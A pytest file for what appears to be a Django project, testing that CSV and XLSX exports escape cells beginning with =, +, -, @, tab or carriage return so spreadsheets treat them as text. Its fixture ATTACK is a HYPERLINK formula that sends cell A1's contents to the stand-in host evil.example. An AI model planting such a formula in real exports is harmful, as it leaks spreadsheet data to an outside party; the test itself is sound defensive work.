"""Spreadsheet-formula escaping in exports: a cell that a spreadsheet would run comes out as text."""

import csv
import io

import pytest
import tablib
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from apps.core.exports import escape_formula, escape_row

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize("cell", [ATTACK, "+86 139", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_it_escapes_a_cell_that_starts_like_a_formula(cell):
    assert escape_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["王小明", "", "a=1", 5, -3, None, 1.5])
def test_it_leaves_other_cells_alone(cell):
    assert escape_formula(cell) == cell


def test_it_escapes_a_row():
    assert escape_row(["李*", ATTACK, 3]) == ["李*", "'" + ATTACK, 3]


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_django_import_export_escapes_formulae_on_export(settings, fmt):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
    dataset = tablib.Dataset(["李*", ATTACK], headers=["name", "note"])
    exported = fmt().export_data(dataset)
    if fmt is CSV:
        cells = list(csv.reader(io.StringIO(exported)))[1]
    else:
        sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
        cells = [cell.value for cell in sheet[2]]
    assert cells == ["李*", ATTACK[1:]], "the leading = is dropped: the cell is text, not a formula"
